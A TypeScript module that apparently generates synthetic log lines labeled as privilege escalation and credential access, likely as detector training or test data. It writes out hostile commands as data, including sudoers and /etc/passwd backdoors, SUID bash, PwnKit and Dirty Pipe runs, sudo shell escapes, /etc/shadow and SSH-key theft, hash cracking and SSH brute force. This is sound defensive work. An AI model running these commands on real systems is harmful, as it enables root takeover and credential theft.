/**
 * Privilege escalation and credential access seen on hosts: sudo/SUID abuse, local exploits,
 * cracking and credential hunting.
 *
 * @module
 */
import type { Ctx, Template } from "../types.ts";
import { syslog } from "../format.ts";
import { anyHost, evilIp, victimUser, type Who } from "./host_common.ts";
import { execLine, SUDO_FMTS } from "./host_exec.ts";

/** Commands a foothold user runs to gain root. */
function privCmd(ctx: Ctx, w: Who): string {
  const { rng } = ctx;
  const me = w.name;
  const n = rng.pick(["backdoor", "sysadm", "toor", "support", "svc", "dbadmin", me]);
  return rng.weighted<string>([
    [`sudo -l`, 5],
    [`sudo -u#-1 /bin/bash`, 1],
    [`find / -perm -4000 -type f 2>/dev/null`, 5],
    [`find / -perm -u=s -type f 2>/dev/null`, 3],
    [`find / -user root -perm -4000 -exec ls -ldb {} \\; 2>/dev/null`, 1],
    [`find / -writable -type d 2>/dev/null`, 1],
    [`getcap -r / 2>/dev/null`, 2],
    [`chmod u+s /bin/bash`, 3],
    [`chmod 4755 /bin/bash`, 1],
    [`cp /bin/bash /tmp/.rootbash; chmod +s /tmp/.rootbash`, 2],
    [`/tmp/.rootbash -p`, 1],
    [`bash -p`, 1],
    [`echo '${n} ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers`, 3],
    [
      `echo "${n} ALL=(ALL:ALL) NOPASSWD:ALL" > /etc/sudoers.d/${
        rng.pick(["90-cloud", "README", "sys"])
      }`,
      1,
    ],
    [`useradd -o -u 0 -g 0 -M -d /root -s /bin/bash ${n}`, 2],
    [`echo '${n}:$1$${rng.alnum(8)}$${rng.alnum(22)}:0:0:root:/root:/bin/bash' >> /etc/passwd`, 2],
    [`usermod -aG sudo ${rng.pick(["www-data", me])}`, 2],
    [`usermod -aG wheel ${me}`, 1],
    [`./pwnkit`, 2],
    [`GCONV_PATH=./pwnkit pkexec`, 1],
    [`./PwnKit 'id'`, 1],
    [`./dirtypipe /usr/bin/su`, 1],
    [`./exploit /etc/passwd 1 ootz:`, 1],
    [`gcc dirty.c -o dirty -pthread && ./dirty ${rng.alnum(8)}`, 1],
    [`./cve-2021-3156 0`, 1],
    [`sudoedit -s '\\' $(python3 -c 'print("A"*1000)')`, 1],
    [`python3 CVE-2021-4034.py`, 1],
    [`./linpeas.sh`, 3],
    [`sh linpeas.sh -a > /dev/shm/lp.out`, 2],
    [`bash LinEnum.sh -t`, 1],
    [`./lse.sh -l 1`, 1],
    [`./pspy64`, 2],
    [`/tmp/pspy64 -pf -i 1000`, 1],
    [`python3 linux-exploit-suggester-2.py`, 1],
    [`./les.sh`, 1],
    [`docker run -v /:/mnt --rm -it alpine chroot /mnt sh`, 2],
    [`docker run --privileged -v /:/host -it ubuntu chroot /host /bin/bash`, 1],
    [`lxc init ubuntu:18.04 privesc -c security.privileged=true`, 1],
    [`python3 -c 'import os; os.setuid(0); os.system("/bin/bash")'`, 1],
    [`perl -e 'use POSIX qw(setuid); POSIX::setuid(0); exec "/bin/sh";'`, 1],
    [`echo 'cp /bin/bash /tmp/rb; chmod +s /tmp/rb' >> /opt/scripts/backup.sh`, 1],
    [`echo "* * * * * root chmod u+s /bin/bash" >> /etc/crontab`, 1],
    [`ln -sf /etc/shadow /tmp/logs/out.log`, 1],
  ]);
}

/** Commands run through sudo that only make sense as abuse. */
const SUDO_ABUSE = [
  "cat /etc/shadow",
  "vim -c ':!/bin/sh'",
  "find . -exec /bin/sh \\; -quit",
  "awk 'BEGIN {system(\"/bin/sh\")}'",
  "less /etc/shadow",
  "python3 -c 'import pty;pty.spawn(\"/bin/bash\")'",
  "perl -e 'exec \"/bin/sh\";'",
  "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh",
  "env /bin/sh",
  "nmap --interactive",
  'zip /tmp/x.zip /tmp -T --unzip-command="sh -c /bin/sh"',
  "cp /etc/shadow /tmp/s",
  "chmod 777 /etc/shadow",
  "tee -a /etc/sudoers",
  "mysql -e '\\! /bin/sh'",
  "rsync -e 'sh -c \"sh 0<&2 1>&2\"' 127.0.0.1:/dev/null",
];

/** Credential hunting and cracking commands. */
function credCmd(ctx: Ctx): string {
  const { rng } = ctx;
  const wl = rng.pick([
    "/usr/share/wordlists/rockyou.txt",
    "rockyou.txt",
    "/usr/share/john/password.lst",
    "/tmp/pw.txt",
    "/usr/share/seclists/Passwords/Common-Credentials/10k-most-common.txt",
  ]);
  const h = rng.pick([
    "hashes.txt",
    "hash.txt",
    "/tmp/shadow.txt",
    "unshadowed.txt",
    "/dev/shm/h",
    "crack.txt",
  ]);
  return rng.weighted<string>([
    [`john --wordlist=${wl} ${h}`, 5],
    [`john --format=sha512crypt --wordlist=${wl} ${h}`, 2],
    [`john --show ${h}`, 2],
    [`john ${h}`, 2],
    [`unshadow /etc/passwd /etc/shadow > ${h}`, 3],
    [`unshadow passwd shadow > /tmp/unshadowed`, 1],
    [`hashcat -m 1800 -a 0 ${h} ${wl}`, 3],
    [`hashcat -m ${rng.pick([0, 100, 500, 1000, 3200, 5600, 13100, 22000])} ${h} ${wl} --force`, 2],
    [`hashcat -m 1800 ${h} -a 3 ?l?l?l?l?d?d`, 1],
    [`cat /etc/shadow`, 3],
    [`cp /etc/shadow /tmp/.s`, 1],
    [`cat /home/${rng.pick(ctx.sc.users)}/.ssh/id_rsa`, 3],
    [`cat /root/.ssh/id_rsa`, 2],
    [`find / -name id_rsa 2>/dev/null`, 2],
    [`find / -name "*.kdbx" -o -name "wp-config.php" 2>/dev/null`, 1],
    [`grep -r password /var/www`, 3],
    [`grep -ri "passw" /etc /opt /var/www 2>/dev/null`, 2],
    [`grep -rn "DB_PASSWORD" /var/www/html/`, 1],
    [`cat /var/www/html/wp-config.php | grep DB_`, 2],
    [`cat ~/.bash_history | grep -i pass`, 1],
    [`cat /proc/${rng.int(300, 9000)}/environ`, 1],
    [`python3 mimipenguin.py`, 2],
    [`./mimipenguin.sh`, 1],
    [`python3 laZagne.py all`, 2],
    [`./lazagne all -oN`, 1],
    [`gcore -o /tmp/sshd.core $(pgrep -o sshd)`, 1],
    [`strings /dev/mem | grep -i pass`, 1],
    [`tcpdump -i any -A port 21 or port 110 or port 143 -w /tmp/.c.pcap`, 1],
    [`base64 -w0 /etc/shadow`, 1],
    [`./truffleHog --regex --entropy=False /var/www`, 1],
    [`hydra -l root -P ${wl} ssh://${rng.pick(["127.0.0.1", ctx.sc.lan + rng.int(2, 250)])}`, 2],
    [`medusa -h ${ctx.sc.lan + rng.int(2, 250)} -u admin -P ${wl} -M ssh`, 1],
  ]);
}

/** Privilege-escalation and credential-access templates. */
export const PRIV_TEMPLATES: Template[] = [
  {
    family: "shell_cmd",
    label: "privilege_escalation",
    weight: 10,
    make: (c) => {
      const w = victimUser(c);
      return execLine(c, {
        cmd: privCmd(c, w),
        who: w,
        peer: c.rng.chance(0.4) ? evilIp(c) : undefined,
      });
    },
  },
  {
    family: "shell_cmd",
    label: "privilege_escalation",
    weight: 4,
    make: (c) =>
      execLine(c, {
        cmd: c.rng.pick(SUDO_ABUSE),
        who: victimUser(c),
        peer: c.rng.chance(0.5) ? evilIp(c) : undefined,
      }, SUDO_FMTS),
  },
  {
    family: "kernel",
    label: "privilege_escalation",
    weight: 2,
    make: (c) => {
      const { rng } = c;
      const bin = rng.pick([
        "exploit",
        "pwnkit",
        "dirtycow",
        "dirtypipe",
        "cve-2022-0847",
        "a.out",
        "exp",
        "overlayfs",
        "poc",
      ]);
      const pid = rng.int(1000, 99999);
      const ts = rng.chance(0.6)
        ? `[${rng.int(1000, 9_000_000)}.${String(rng.int(0, 999999)).padStart(6, "0")}] `
        : "";
      return syslog(
        c,
        anyHost(c),
        "kernel",
        null,
        ts + rng.pick([
          `traps: ${bin}[${pid}] general protection fault ip:${rng.hex(12)} sp:7ffd${
            rng.hex(8)
          } error:0 in ${bin}[${rng.hex(12)}+${rng.hex(4)}]`,
          `${bin}[${pid}]: segfault at ${rng.hex(8)} ip ${rng.hex(16)} sp ${
            rng.hex(16)
          } error 6 in ${bin}[${rng.hex(12)}+${rng.hex(4)}]`,
        ]),
        "kern",
      );
    },
  },
  {
    family: "pkexec",
    label: "privilege_escalation",
    weight: 1,
    make: (c) => {
      const u = c.rng.pick(["www-data", "nobody", "ubuntu", "tomcat", c.rng.pick(c.sc.users)]);
      return syslog(
        c,
        anyHost(c),
        "pkexec",
        c.rng.int(1000, 99999),
        c.rng.pick([
          `${u}: The value for the SHELL variable was not found the /etc/shells file [USER=root] [TTY=/dev/pts/${
            c.rng.int(0, 5)
          }] [CWD=/tmp/${
            c.rng.pick(["", ".x", "pwn"])
          }] [COMMAND=GCONV_PATH=./pwnkit.so:. PATH=GCONV_PATH=. SHELL=/lol/i/do/not/exists CHARSET=PWNKIT GIO_USE_VFS=]`,
          `${u}: Executing command [USER=root] [TTY=unknown] [CWD=/tmp] [COMMAND=/bin/sh]`,
        ]),
        "authpriv",
      );
    },
  },
  {
    family: "shell_cmd",
    label: "credential_access",
    weight: 10,
    make: (c) =>
      execLine(c, {
        cmd: credCmd(c),
        who: victimUser(c),
        peer: c.rng.chance(0.4) ? evilIp(c) : undefined,
      }),
  },
];
